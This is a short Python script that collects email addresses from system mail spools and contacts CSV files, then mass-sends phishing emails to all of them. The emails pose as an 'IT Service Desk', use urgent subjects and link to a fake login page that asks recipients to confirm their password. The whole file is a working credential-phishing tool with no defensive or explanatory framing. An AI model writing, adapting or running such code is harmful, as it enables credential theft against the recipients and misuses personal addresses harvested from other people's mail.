import csv
import mailbox
import random
import re
import smtplib
import time
from email.headerregistry import Address
from email.message import EmailMessage
from pathlib import Path

ADDR = re.compile(r"[\w.+-]+@[\w-]+\.[\w.]+")
SUBJECTS = ["Your mailbox is almost full", "Invoice overdue", "Unusual sign-in"]
LINK = "https://login-verify.example.net/?u={user}"


def harvest():
    found = set()
    for box in Path("/var/mail").iterdir():
        for m in mailbox.mbox(str(box)):
            found.update(ADDR.findall(f"{m['from']} {m['to']} {m['cc']}"))
    for book in Path.home().rglob("*contacts*.csv"):
        with book.open(newline="") as fh:
            found.update(a for row in csv.reader(fh) for c in row for a in ADDR.findall(c))
    return sorted(found)


def compose(to: str) -> EmailMessage:
    m = EmailMessage()
    m["From"] = Address("IT Service Desk", "it-desk", "example.com")
    m["To"], m["Subject"] = to, random.choice(SUBJECTS)
    m.add_alternative(f'<p>Please <a href="{LINK.format(user=to)}">confirm your password</a> within 24 hours.</p>', subtype="html")
    return m


with smtplib.SMTP("localhost") as mta:
    for who in harvest():
        mta.send_message(compose(who))
        time.sleep(random.random())
